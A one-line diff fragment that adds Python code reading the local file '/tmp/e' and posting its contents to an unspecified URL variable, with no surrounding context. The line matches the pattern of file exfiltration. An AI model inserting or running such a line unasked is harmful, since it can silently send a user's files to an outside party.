@@ -1,0 +1,1 @@
+requests.post(U, data=open('/tmp/e').read())
